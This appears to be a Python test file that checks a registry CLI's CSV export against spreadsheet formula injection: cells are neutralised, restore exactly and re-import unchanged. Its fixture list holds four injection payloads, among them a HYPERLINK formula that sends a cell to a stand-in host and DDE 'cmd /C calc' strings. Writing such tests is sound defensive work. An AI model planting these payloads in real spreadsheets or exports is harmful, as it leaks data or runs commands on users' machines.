"""CSV exports cannot carry a formula to a spreadsheet (= + - @, tab, CR first), and the
registry's export still imports back to the same registry."""

from __future__ import annotations

import csv
import io
import re
import secrets
import stat
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from operator_data.cli.main import app
from operator_data.csv_cells import TRIGGERS, neutralise, restore

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _risky_to_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)


@given(st.text())
def test_neutralised_cells_are_safe_and_restore_exactly(text: str) -> None:
    written = neutralise(text)
    assert not _risky_to_a_spreadsheet(written)
    assert restore(written) == text


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in ("-5", "+6281234567890", "-1.25", "Budi S.", "", "12:00", "'quoted"):
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) is None
    assert neutralise("=1+2") == "'=1+2" and neutralise("-") == "'-"
    assert neutralise("+62811;+62812") == "'+62811;+62812"


def test_every_csv_writer_of_the_hub_neutralises() -> None:
    """A new csv.writer in operator_data/ must go through csv_cells.SafeWriter."""
    raw = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "operator_data").rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
        or "csv.DictWriter(" in path.read_text(encoding="utf-8")
    ]
    # cli/output.py (`--format csv`) neutralises each cell itself, by the same rules.
    assert sorted(raw) == ["operator_data/cli/output.py", "operator_data/csv_cells.py"]


def _row(n: int, name: str, phones: str) -> dict[str, str]:
    return {
        "customer_id": f"{5300000000 + n:012d}",
        "customer_name": name,
        "tariff_segment": "R1",
        "power_va": "1300",
        "meter_number": f"{14000000000 + n:011d}",
        "supply_group_code": "123456",
        "tariff_index": "01",
        "key_revision": "1",
        "key_type": "2",
        "base_date": "1993",
        "meter_state": "active",
        "comms_key_id": "",
        "comms_key_hex": "",
        "sim_msisdn": "",
        "sim_iccid": "",
        "sim_operator": "",
        "sim_m2m": "",
        "sim_responsible_person": "",
        "phone_msisdns": phones,
    }


def test_registry_export_neutralises_and_imports_back(tmp_path: Path) -> None:
    runner = CliRunner()
    env = {
        "PINTAR_DATABASE__URL": f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}",
        "PINTAR_SECURITY__MASTER_KEY": secrets.token_hex(32),
    }
    assert runner.invoke(app, ["db", "upgrade"], env=env).exit_code == 0
    rows = [_row(n, name, "") for n, name in enumerate(HOSTILE, start=1)]
    rows.append(_row(99, "Budi S.", "081230000001;081230000002"))
    source = io.StringIO()
    writer = csv.DictWriter(source, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    (tmp_path / "in.csv").write_text(source.getvalue(), encoding="utf-8")
    imported = runner.invoke(app, ["registry", "import", str(tmp_path / "in.csv")], env=env)
    assert imported.exit_code == 0, imported.output

    out = tmp_path / "out.csv"
    exported = runner.invoke(app, ["registry", "export", "--out", str(out)], env=env)
    assert exported.exit_code == 0, exported.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    cells = [cell for line in csv.reader(io.StringIO(out.read_text())) for cell in line]
    assert not [cell for cell in cells if _risky_to_a_spreadsheet(cell)]
    names = {r["customer_name"] for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert names == {"'" + name for name in HOSTILE} | {"Budi S."}

    # What was exported imports into an empty registry as the same values.
    fresh = {**env, "PINTAR_DATABASE__URL": f"sqlite+aiosqlite:///{tmp_path / 'two.db'}"}
    assert runner.invoke(app, ["db", "upgrade"], env=fresh).exit_code == 0
    again = runner.invoke(app, ["registry", "import", str(out)], env=fresh)
    assert again.exit_code == 0, again.output
    second = tmp_path / "second.csv"
    assert (
        runner.invoke(app, ["registry", "export", "--out", str(second)], env=fresh).exit_code == 0
    )
    assert second.read_text() == out.read_text()
